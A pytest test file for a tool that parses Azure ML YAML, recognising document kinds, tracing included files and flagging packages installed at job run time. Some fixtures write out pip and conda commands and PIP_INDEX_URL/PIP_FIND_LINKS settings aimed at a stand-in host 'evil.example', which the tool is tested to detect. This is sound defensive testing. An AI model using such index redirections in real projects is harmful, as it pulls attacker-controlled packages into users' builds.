"""Azure ML YAML: what is told from its keys, what it leads to, and how far that is followed."""

from collections.abc import Mapping

import pytest
from lock_samples import allowed, conda_item, digest, image, pip_item, record

from quarantine.errors import Problem, SpecError
from quarantine.model import Directive, EnvironmentSpec, Location, Needs, Unverifiable
from quarantine.spec import azureml
from quarantine.spec.documents import load
from quarantine.spec.recognise import recognise
from quarantine.spec.write_azureml import write_azureml

SCHEMA = "$schema: https://azuremlschemas.azureedge.net/latest"


def _read(path: str, files: Mapping[str, str]) -> EnvironmentSpec | Needs:
    data = {name: text.encode() for name, text in files.items()}
    return azureml.read(path, data, load(path, data[path]))


def _problems(path: str, files: Mapping[str, str]) -> tuple[Problem, ...]:
    with pytest.raises(SpecError) as caught:
        _read(path, files)
    return caught.value.problems


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (f"{SCHEMA}/environment.schema.json\nname: x\n", "azureml"),
        (f"{SCHEMA}/managedOnlineEndpoint.schema.json\nname: x\n", "azureml"),
        ("name: x\nimage: python\n", "azureml"),
        ("image: python\nconda_file: conda.yml\n", "azureml"),
        ("name: x\nbuild: {path: .}\n", "azureml"),
        ("command: a\nenvironment: azureml:x:1\n", "azureml"),
        ("endpoint_name: x\nmodel: azureml:m:1\n", "azureml"),
        ("type: pipeline\njobs: {}\n", "azureml"),
        ("name: x\nchannels: []\ndependencies: [python]\n", "conda-environment"),
        ("dependencies: [python]\nunknown: 1\n", "conda-environment"),
        ("name: x\nchannels: [conda-forge]\n", "conda-environment"),
        ("name: x\nprefix: /srv\n", "conda-environment"),
        ("python: 3.10\ndependencies: [requests]\n", "python-env"),
        ("python: 3.10\nbuild_dependencies: [pip]\n", "python-env"),
        ("version: 1\nmetadata: {}\npackage: []\n", "conda-lock"),
        ("apiVersion: v2\nname: chart\ndependencies: [{name: x}]\n", None),
        ("galaxy_info: {}\ndependencies: []\n", None),
        ("dependencies: [{role: x}]\nroles: []\n", None),
        ("dependencies: [{pip: [requests]}]\nroles: []\n", "conda-environment"),
        ("services: {web: {image: x}}\n", None),
        ("name: CI\njobs: {build: {environment: x}}\n", None),
        ("stages: [a]\nimage: x\nname: ci\n", None),
        ("dependencies: {a: 1}\nname: pubspec\nversion: 1\nenvironment: {sdk: '3'}\n", None),
        ("dependencies: {a: 1}\nname: x\nfoo: 1\n", "conda-environment"),
        ("apiVersion: v1\ndependencies: [{name: a, version: '1'}]\n", None),
        ("apiVersion: v1\ndependencies: [a]\n", "conda-environment"),
        ("- python\n", None),
        ("just text\n", None),
    ],
)
def test_a_document_is_told_by_its_keys(text: str, kind: str | None) -> None:
    """What conda, conda-lock, MLflow and Azure ML would read is recognised, and other YAML is not."""
    assert recognise(load("x.yml", text.encode())) == kind


def test_what_is_needed_is_told_with_its_line() -> None:
    """A missing file is asked for with the place that names it, all of a document at once."""
    answer = _read(
        "envs/job.yml",
        {
            "envs/job.yml": "type: pipeline\njobs:\n"
            "  a: {command: a, environment: {image: x, conda_file: ../conda.yml}}\n"
            "  b: {command: a, environment: {build: {path: ctx, dockerfile_path: docker/Dockerfile.gpu}}}\n"
        },
    )

    assert answer == Needs(
        ("conda.yml", "envs/ctx/docker/Dockerfile.gpu"),
        wanted_by=(Location(file="envs/job.yml", line=3), Location(file="envs/job.yml", line=4)),
    )


def test_a_missing_include_of_an_include_is_told_at_its_own_line() -> None:
    """What an included file needs is wanted by that file."""
    answer = _read(
        "job.yml",
        {
            "job.yml": "command: a\nenvironment: ./envs/e.yml\n",
            "envs/e.yml": "name: x\nimage: x\nconda_file: conda.yml\n",
        },
    )

    assert answer == Needs(("envs/conda.yml",), wanted_by=(Location(file="envs/e.yml", line=3),))


def test_the_sources_are_the_files_that_were_read() -> None:
    """Every part says which file it stands in, with its digest."""
    spec = _read("job.yml", {"job.yml": "command: a\nenvironment: file:e.yml\n", "e.yml": "name: x\nimage: x:1\n"})
    assert isinstance(spec, EnvironmentSpec)

    assert [[source.path for source in leaf.sources] for leaf in spec.leaves] == [["job.yml"], ["e.yml"]]
    assert [str(found) for leaf in spec.leaves for found in leaf.images] == ["docker.io/library/x:1"]


def test_includes_are_bounded_in_depth() -> None:
    """A chain of components ends at the eighth file."""
    files = {f"c{i}.yml": f"type: pipeline\njobs: {{a: {{component: ./c{i + 1}.yml}}}}\n" for i in range(9)}

    assert _problems("c0.yml", files) == (Problem(file="c7.yml", line=2, message="includes are nested deeper than 8"),)


def test_includes_are_bounded_in_number() -> None:
    """Files that include each other many times over are read no more than 512 times."""
    fan = "".join(f"  j{i}: {{component: ./NEXT}}\n" for i in range(60))
    files = {f"c{i}.yml": f"type: pipeline\njobs:\n{fan.replace('NEXT', f'c{i + 1}.yml')}" for i in range(6)}
    files["c6.yml"] = "type: spark\n"

    problems = _problems("c0.yml", files)

    assert problems[0].message == "more than 512 files are included"


def test_environments_are_bounded_in_number() -> None:
    """No document leads to more than 256 environments."""
    jobs = "".join(f"  j{i}: {{command: a, environment: 'azureml:x:{i}'}}\n" for i in range(258))

    assert _problems("c.yml", {"c.yml": f"type: pipeline\njobs:\n{jobs}"}) == (
        Problem(file="c.yml", line=259, message="more than 256 environments"),
        Problem(file="c.yml", line=260, message="more than 256 environments"),
    )


def test_a_written_environment_is_read_back_as_a_lock() -> None:
    """What `write_azureml` writes is an environment whose image, conda and pip packages are all pinned."""
    result = allowed(
        conda_item(record("python", "3.11.9", "h1_0")),
        conda_item(record("pip", "24.0", "pyh_0", subdir="noarch")),
        pip_item("requests", "2.31.0"),
    )
    files = write_azureml(result, "quarantine", "x", image(None, digest("image")))
    spec = azureml.read("environment.yaml", files, load("environment.yaml", files["environment.yaml"]))
    assert isinstance(spec, EnvironmentSpec)
    (part,) = spec.parts
    assert part.conda is not None
    assert part.conda.locked is not None
    assert part.locked is not None

    assert spec.is_locked
    assert [found.digest for found in spec.images] == [digest("image")]
    assert [(package.name, package.version, package.build, package.sha256) for package in part.conda.locked] == [
        ("pip", "24.0", "pyh_0", digest("pip-24.0-pyh_0.conda")),
        ("python", "3.11.9", "h1_0", digest("python-3.11.9-h1_0.conda")),
    ]
    assert [(str(package.name), str(package.version), set(package.digests)) for package in part.locked] == [
        ("requests", "2.31.0", {digest("requests-2.31.0-py3-none-any.whl")})
    ]


INSTALLS = "it installs when the job runs, which a check before the build doesn't see"


def _told(path: str, text: str) -> EnvironmentSpec:
    spec = _read(path, {path: text})
    assert isinstance(spec, EnvironmentSpec)
    return spec


def test_what_a_job_installs_while_it_runs_is_told() -> None:
    """Each installing command is unverifiable at its line, without its secrets; the others are the job's own."""
    spec = _told(
        "job.yml",
        "environment: azureml:x:1\n"
        "command: >-\n"
        "  echo start && pip install -r reqs.txt --extra-index-url https://me:canary@evil.example/simple\n"
        "  && PIP_FIND_LINKS=https://evil.example conda install ${{inputs.package}} && python train.py\n",
    )

    at = Location(file="job.yml", line=2)
    assert spec.unverifiable == (
        Unverifiable(
            location=at,
            what="command: pip install -r reqs.txt --extra-index-url https://evil.example/simple",
            why=INSTALLS,
        ),
        Unverifiable(
            location=at,
            what="command: PIP_FIND_LINKS=https://evil.example conda install ${{inputs.package}}",
            why=INSTALLS,
        ),
    )
    assert spec.directives == (Directive(option="environment-variable", text="PIP_FIND_LINKS is set", location=at),)


def test_commands_and_variables_count_wherever_a_job_stands() -> None:
    """Jobs of a pipeline, components in and out of the file, and the trials of a sweep install as jobs do."""
    pipeline = (
        "type: pipeline\njobs:\n"
        "  a: {command: pip install a, environment: 'azureml:x:1', environment_variables: {PIP_INDEX_URL: b, A: b}}\n"
        "  b: {component: {command: pip install b, environment: 'azureml:x:2'}}\n"
        "  c: {type: sweep, trial: {command: pip install c, environment: 'azureml:x:3'}}\n"
        "  d: {component: ./d.yml}\n"
    )
    component = "command: pip install d\nenvironment_variables:\n  PIP_EXTRA_INDEX_URL: x\n"

    spec = _read("job.yml", {"job.yml": pipeline, "d.yml": component})

    assert isinstance(spec, EnvironmentSpec)
    assert [(str(u.location), u.what) for leaf in spec.leaves for u in leaf.unverifiable] == [
        ("job.yml:3", "command: pip install a"),
        ("job.yml:4", "command: pip install b"),
        ("job.yml:5", "command: pip install c"),
        ("d.yml:1", "command: pip install d"),
    ]
    assert [(str(d.location), d.option, d.text) for leaf in spec.leaves for d in leaf.directives] == [
        ("job.yml:3", "environment-variable", "PIP_INDEX_URL is set"),
        ("d.yml:3", "environment-variable", "PIP_EXTRA_INDEX_URL is set"),
    ]


def test_a_deployment_with_variables() -> None:
    """What changes where pip looks counts in a deployment, too."""
    spec = _told(
        "d.yml",
        "endpoint_name: e\nmodel: azureml:m:1\nenvironment: azureml:x:1\n"
        "environment_variables:\n  PIP_INDEX_URL: https://evil.example/simple\n",
    )

    assert spec.directives == (
        Directive(option="environment-variable", text="PIP_INDEX_URL is set", location=Location(file="d.yml", line=5)),
    )


def test_a_command_and_variables_of_other_types() -> None:
    """They are refused with their places."""
    assert _problems(
        "j.yml", {"j.yml": "environment: azureml:x:1\ncommand: [pip, install]\nenvironment_variables: x\n"}
    ) == (
        Problem(file="j.yml", line=2, message="command: expected the text of a command"),
        Problem(file="j.yml", line=3, message="the text 'x' as `environment_variables`: expected a mapping"),
    )


def test_a_registered_component_is_shown_whole() -> None:
    """The label of a component is no host, and its name no login."""
    spec = _told("p.yml", "type: pipeline\njobs:\n  a: {component: 'azureml:train@latest'}\n")

    assert spec.unverifiable == (
        Unverifiable(
            location=Location(file="p.yml", line=3),
            what="component: azureml:train@latest",
            why="its environment does not stand in this file",
        ),
    )


@pytest.mark.parametrize(
    ("written", "name"),
    [("train_env.2", "train_env.2"), ("_x", ""), ("a/b", ""), ("42", ""), ("{a: b}", ""), ("'${{x}}'", "")],
)
def test_the_name_of_an_environment_is_kept(written: str, name: str) -> None:
    """Only a name that Azure ML takes; a conda file has its own, and a job's is not its environment's."""
    alone = _told("e.yml", f"name: {written}\nimage: x\nconda_file: {{name: c, channels: [a], dependencies: [pip]}}\n")
    in_job = _told("j.yml", f"name: job\ncommand: a\nenvironment: {{name: {written}, image: x}}\n")

    assert [leaf.name for leaf in alone.leaves] == [name, "c"]
    assert [leaf.name for leaf in in_job.leaves] == ["", name]


def test_unknown_keys_of_an_environment_say_what_may_be_meant() -> None:
    """The nearest key where there is one, else those that are expected."""
    text = "name: x\nimage: y\nconda_flie: c.yml\nfoo: 1\n"

    assert _problems("e.yml", {"e.yml": text}) == (
        Problem(
            file="e.yml",
            line=3,
            message="unknown key 'conda_flie' in an Azure ML environment: did you mean `conda_file`?",
        ),
        Problem(
            file="e.yml",
            line=4,
            message="unknown key 'foo' in an Azure ML environment: expected name, version, image, build, conda_file, "
            "description, tags, os_type, inference_config",
        ),
    )
